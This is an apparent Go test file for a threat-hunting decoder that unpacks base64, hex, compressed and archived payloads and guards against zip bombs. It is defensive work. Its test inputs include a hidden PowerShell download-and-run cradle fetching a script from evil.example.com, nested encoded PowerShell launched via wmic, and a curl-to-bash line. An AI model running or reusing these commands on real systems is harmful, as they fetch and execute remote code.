package decode

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/huntkit/huntkit/frame"
	"github.com/huntkit/huntkit/internal/testdata"
)

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	out := make([]byte, 2*len(u))
	for i, c := range u {
		out[2*i], out[2*i+1] = byte(c), byte(c>>8)
	}
	return out
}

func gz(b []byte, name string) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Name = name
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func zl(b []byte) []byte {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func rawDeflate(b []byte) []byte {
	z := zl(b)
	return z[2 : len(z)-4] // strip the zlib header and checksum
}

func zipOf(files map[string][]byte, order ...string) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, n := range order {
		f, _ := w.Create(n)
		f.Write(files[n])
	}
	w.Close()
	return buf.Bytes()
}

func tarOf(files map[string][]byte, order ...string) []byte {
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	for _, n := range order {
		w.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg})
		w.Write(files[n])
	}
	w.Close()
	return buf.Bytes()
}

func sha(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

func mustDecode(t *testing.T, s string, opts ...Option) *Result {
	t.Helper()
	r, err := Decode(s, opts...)
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	return r
}

// TestMsticpyNestedArchive: msticpy's base64msg.txt holds a base64 tar and a base64 zip with
// the same three members (dllenc.txt, txtenc.txt, txtenc.txt.gz); msticpy's test expects 8
// decoded items.
func TestMsticpyNestedArchive(t *testing.T) {
	data, err := os.ReadFile(testdata.Shared(t, "msticpy/base64/base64msg.txt"))
	if err != nil {
		t.Fatal(err)
	}
	r := mustDecode(t, string(data))
	if len(r.Items) != 8 {
		for _, it := range r.Items {
			t.Logf("%s %s %s %s", it.Reference, it.Encoding, it.FileName, it.FileType)
		}
		t.Fatalf("%d items, want 8", len(r.Items))
	}
	type row struct{ ref, enc, name, ftype, cs, same string }
	want := []row{
		{"1.1", "base64>tar", "dllenc.txt", "text", "utf-8", ""},
		{"1.1.1", "base64", "", "binary", "binary", ""},
		{"1.2", "base64>tar", "txtenc.txt", "text", "utf-8", ""},
		{"1.2.1", "base64", "", "text", "utf-16le", ""},
		{"1.3", "base64>tar>gzip", "txtenc.txt.gz", "text", "utf-8", "1.2"},
		{"2.1", "base64>zip", "dllenc.txt", "text", "utf-8", "1.1"},
		{"2.2", "base64>zip", "txtenc.txt", "text", "utf-8", "1.2"},
		{"2.3", "base64>zip>gzip", "txtenc.txt.gz", "text", "utf-8", "1.2"},
	}
	for i, w := range want {
		it := r.Items[i]
		got := row{it.Reference, it.Encoding, it.FileName, it.FileType, it.Charset, it.SameAs}
		if got != w {
			t.Errorf("item %d = %+v, want %+v", i, got, w)
		}
		if it.SHA256 != sha(it.Data) || len(it.MD5) != 32 || len(it.SHA1) != 40 || it.Size != len(it.Data) {
			t.Errorf("item %s hashes/size wrong", it.Reference)
		}
		if it.Depth != strings.Count(it.Reference, ".")+1 {
			t.Errorf("item %s depth %d", it.Reference, it.Depth)
		}
	}
	if got := r.Items[3].Text; got != "text\r\nfile\r\n" {
		t.Errorf("UTF-16 payload = %q", got)
	}
	if !strings.HasPrefix(r.Items[0].Original, "ZGxsZW5jLnR4dAAA") || !strings.HasPrefix(r.Items[5].Original, "UEsDBBQAAAAIA") {
		t.Errorf("original strings: %.20q %.20q", r.Items[0].Original, r.Items[5].Original)
	}
	for _, marker := range []string{
		"There should be a tar file here:<decoded value='multiple binary' type='multiple' index='1' depth='1'>",
		"<decoded type='string' name='[base64>tar] Filename: dllenc.txt' index='1.1' depth='2'>",
		"<decoded type='string' name='[base64]' index='1.2.1' depth='3'>text\r\nfile\r\n</decoded>",
		"</decoded>And this is the end.",
	} {
		if !strings.Contains(r.Text, marker) {
			t.Errorf("decoded text lacks %q", marker)
		}
	}
}

func TestMsticpyTextInZip(t *testing.T) {
	data, err := os.ReadFile(testdata.Shared(t, "msticpy/base64/b64text_inzip.txt"))
	if err != nil {
		t.Fatal(err)
	}
	r := mustDecode(t, string(data))
	if len(r.Items) != 2 {
		t.Fatalf("%d items, want 2", len(r.Items))
	}
	if it := r.Items[0]; it.FileName != "txtenc.txt" || it.Encoding != "base64>zip" || it.Reference != "1.1" {
		t.Errorf("zip member = %+v", it)
	}
	if it := r.Items[1]; it.Charset != CharsetUTF16LE || it.Text != "text\r\nfile\r\n" {
		t.Errorf("nested = %q %s", it.Text, it.Charset)
	}
}

func TestPowerShellEncodings(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')"
	cases := []struct {
		name, line, charset string
	}{
		{"utf-16le -enc", "powershell.exe -NoP -W Hidden -EncodedCommand " + b64(utf16le(script)), CharsetUTF16LE},
		{"utf-8 -enc", "powershell.exe -enc " + b64([]byte(script)), CharsetUTF8},
		{"utf-16le with BOM", "x " + b64(append([]byte{0xff, 0xfe}, utf16le(script)...)), CharsetUTF16LE},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := mustDecode(t, c.line)
			if len(r.Items) != 1 {
				t.Fatalf("%d items", len(r.Items))
			}
			it := r.Items[0]
			if it.Text != script || it.Charset != c.charset || it.FileType != TypeText || it.Encoding != "base64" {
				t.Errorf("item = %q %s %s %s", it.Text, it.Charset, it.FileType, it.Encoding)
			}
			want := c.line[:strings.LastIndexByte(c.line, ' ')+1] + "<decoded type='string' name='[base64]' index='1' depth='1'>" + script + "</decoded>"
			if r.Text != want {
				t.Errorf("text = %q\nwant %q", r.Text, want)
			}
			if c.line[it.Start:it.End] != it.Original {
				t.Errorf("positions %d:%d", it.Start, it.End)
			}
		})
	}
}

func TestNestedAndCompressed(t *testing.T) {
	inner := "Start-Process -FilePath C:\\Users\\Public\\x.exe"
	l1 := "powershell -enc " + b64([]byte(inner))
	l2 := "cmd /c powershell -e " + b64([]byte(l1))
	r := mustDecode(t, "wmic process call create \"powershell -e "+b64([]byte(l2))+"\"")
	var refs []string
	for _, it := range r.Items {
		refs = append(refs, fmt.Sprintf("%s/%d/%s", it.Reference, it.Depth, it.Encoding))
	}
	if got := strings.Join(refs, " "); got != "1/1/base64 1.1/2/base64 1.1.1/3/base64" {
		t.Errorf("nested refs = %s", got)
	}
	if r.Items[2].Text != inner {
		t.Errorf("innermost = %q", r.Items[2].Text)
	}

	cases := []struct {
		name, text, enc, fname, want string
	}{
		{"base64 gzip", "FromBase64String('" + b64(gz([]byte(inner), "")) + "')", "base64>gzip", "", inner},
		{"base64 gzip with name", "x " + b64(gz([]byte(inner), "stage.ps1")) + " y", "base64>gzip", "stage.ps1", inner},
		{"base64 zlib", "x " + b64(zl([]byte(inner))) + " y", "base64>zlib", "", inner},
		{"base64 raw deflate", "New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" + b64(rawDeflate([]byte(inner))) + "'),[IO.Compression.CompressionMode]::Decompress)", "base64>deflate", "", inner},
		{"hex text", "payload=" + hex.EncodeToString([]byte(inner)), "hex", "", inner},
		{"hex gzip", "payload=" + hex.EncodeToString(gz([]byte(inner), "")), "hex>gzip", "", inner},
		{"base64 tar.gz", "blob " + b64(gz(tarOf(map[string][]byte{"run.ps1": []byte(inner)}, "run.ps1"), "")), "base64>gzip>tar", "run.ps1", inner},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := mustDecode(t, c.text)
			if len(r.Items) != 1 {
				t.Fatalf("%d items: %+v", len(r.Items), r.Items)
			}
			it := r.Items[0]
			if it.Encoding != c.enc || it.FileName != c.fname || it.Text != c.want {
				t.Errorf("item enc=%s name=%q text=%q", it.Encoding, it.FileName, it.Text)
			}
		})
	}
}

func TestBinaryByMagic(t *testing.T) {
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), bytes.Repeat([]byte{0xb8, 0, 0x40}, 30)...)
	r := mustDecode(t, "drop "+b64(pe))
	if len(r.Items) != 1 || r.Items[0].FileType != TypePE || r.Items[0].Charset != CharsetBinary {
		t.Fatalf("items = %+v", r.Items)
	}
	if !strings.Contains(r.Text, "<decoded value='binary' name='[base64]' type='pe' index='1' depth='1'>4d 5a 90 00") {
		t.Errorf("binary marker: %.200s", r.Text)
	}
	for data, want := range map[string]string{
		"%PDF-1.7\n": TypePDF, "\x7fELF\x02\x01": TypeELF, "PK\x03\x04": TypeZip, "\x1f\x8b\x08\x00": TypeGzip,
		"x\x9c\x03\x00\x00\x00\x00\x01": TypeZlib, "BZh91AY": TypeBzip2, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1": TypeOLE, "hello": "",
	} {
		if got := Magic([]byte(data)); got != want {
			t.Errorf("Magic(%q) = %q, want %q", data, got, want)
		}
	}
}

func TestNoFalsePayloads(t *testing.T) {
	for _, s := range []string{
		"C:\\Windows\\System32\\cmd.exe /c dir C:\\Users\\abcdef /s /b > C:\\Temp\\xyz.txt",
		"md5=d41d8cd98f00b204e9800998ecf8427e sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"/usr/local/bin/something/abcdefghijklmnop and AbstractSingletonProxyFactoryBean",
		"curl -fsSL https://example.com/install.sh | bash -s -- --token abcdefghijklmnopqrstuvwx",
		"guid 8a0a4f3e-12ab-4cde-9f00-1234567890ab",
	} {
		r := mustDecode(t, s)
		if len(r.Items) != 0 || r.Text != s {
			t.Errorf("%q: %d items (%+v)", s, len(r.Items), r.Items)
		}
	}
}

func TestZipBombRefused(t *testing.T) {
	zeros := make([]byte, 8<<20)
	bomb := zipOf(map[string][]byte{"bomb.bin": zeros, "ok.txt": []byte("hello world, fine text")}, "ok.txt", "bomb.bin")
	r, err := Decode("attachment " + b64(bomb))
	if err == nil || !errors.Is(err, ErrRatio) {
		t.Fatalf("err = %v, want ErrRatio", err)
	}
	var le *LimitError
	if !errors.As(err, &le) || le.Ref != "1" || !strings.Contains(err.Error(), "bomb.bin") {
		t.Errorf("error = %v", err)
	}
	if len(r.Items) != 1 || r.Items[0].FileName != "ok.txt" {
		t.Errorf("partial items = %+v", r.Items)
	}

	gzBomb := gz(make([]byte, 16<<20), "")
	r, err = Decode("x " + b64(gzBomb) + " y")
	if !errors.Is(err, ErrRatio) {
		t.Fatalf("gzip bomb err = %v", err)
	}
	if len(r.Items) != 1 || r.Items[0].Err == "" || r.Items[0].FileType != TypeGzip {
		t.Errorf("gzip bomb item = %+v", r.Items)
	}
	// the same data is accepted when the limits allow it
	if _, err := Decode("x "+b64(gzBomb)+" y", WithMaxRatio(100000), WithMaxSize(64<<20, 32<<20)); err != nil {
		t.Errorf("with raised limits: %v", err)
	}
}

func TestLimits(t *testing.T) {
	s := "the innermost level payload"
	for i := 0; i < 6; i++ {
		s = "powershell -enc " + b64([]byte(s))
	}
	r, err := Decode(s, WithMaxDepth(3))
	if len(r.Items) != 3 || r.Items[2].Depth != 3 {
		t.Errorf("depth 3: %d items", len(r.Items))
	}
	if !errors.Is(err, ErrDepth) || !strings.Contains(err.Error(), "1.1.1.1") {
		t.Errorf("depth 3 error = %v", err)
	}
	r = mustDecode(t, s)
	if len(r.Items) != 6 {
		t.Errorf("default depth: %d items", len(r.Items))
	}
	many := strings.Repeat("x "+b64([]byte("hello there, general"))+"\n", 20)
	r, err = Decode(many, WithMaxItems(5))
	if !errors.Is(err, ErrItems) || len(r.Items) != 5 {
		t.Errorf("max items: %d items, err %v", len(r.Items), err)
	}
	r, err = Decode(many, WithMaxSize(40, 40))
	if !errors.Is(err, ErrSize) || len(r.Items) != 2 {
		t.Errorf("max size: %d items, err %v", len(r.Items), err)
	}
}

func TestCorruptArchive(t *testing.T) {
	z := zipOf(map[string][]byte{"a.txt": bytes.Repeat([]byte("abc "), 100)}, "a.txt")
	bad := append([]byte{}, z[:len(z)/2]...)
	r, err := Decode("x " + b64(bad))
	if !errors.Is(err, ErrCorrupt) {
		t.Errorf("err = %v", err)
	}
	if len(r.Items) != 1 || r.Items[0].Err == "" {
		t.Errorf("items = %+v", r.Items)
	}
}

func TestInflateRaw(t *testing.T) {
	z := zl([]byte("raw deflate body"))
	out, err := Inflate(z[2:len(z)-4], 1<<20)
	if err != nil || string(out) != "raw deflate body" {
		t.Errorf("Inflate = %q, %v", out, err)
	}
	if _, err := Inflate(make([]byte, 10), 1<<20); !errors.Is(err, ErrCorrupt) {
		t.Errorf("bad deflate err = %v", err)
	}
}

func TestDecodeFrame(t *testing.T) {
	in := frame.MustNew(frame.NewStrings("cmd", []string{
		"powershell -enc " + b64(utf16le("whoami /all")),
		"plain text",
		"",
		"x " + b64(gz([]byte("hello gzip world"), "")),
	}).WithValid([]bool{true, true, false, true}))
	out, err := DecodeFrame(in, "cmd")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{ColSrcIndex, ColReference, ColOriginal, ColFileName, ColFileType, ColEncoding, ColCharset, ColDepth, ColSize, ColDecoded, ColMD5, ColSHA1, ColSHA256, ColSameAs, ColError, ColFullDecoded}
	if strings.Join(out.Names(), ",") != strings.Join(want, ",") {
		t.Fatalf("columns = %v", out.Names())
	}
	if out.Len() != 2 {
		t.Fatalf("%d rows", out.Len())
	}
	if out.Col(ColSrcIndex).Int(0) != 0 || out.Col(ColDecoded).Str(0) != "whoami /all" || out.Col(ColCharset).Str(0) != CharsetUTF16LE {
		t.Errorf("row 0 = %v", out.Record(0))
	}
	if out.Col(ColSrcIndex).Int(1) != 3 || out.Col(ColEncoding).Str(1) != "base64>gzip" || out.Col(ColDecoded).Str(1) != "hello gzip world" {
		t.Errorf("row 1 = %v", out.Record(1))
	}
	if _, err := DecodeFrame(in, "missing"); !errors.Is(err, ErrNoColumn) {
		t.Errorf("missing column err = %v", err)
	}
	if f := mustDecode(t, "a "+b64([]byte("some decoded text"))).Frame(); f.Len() != 1 || f.Col(ColDecoded).Str(0) != "some decoded text" {
		t.Errorf("Result.Frame = %v", f.Record(0))
	}
}
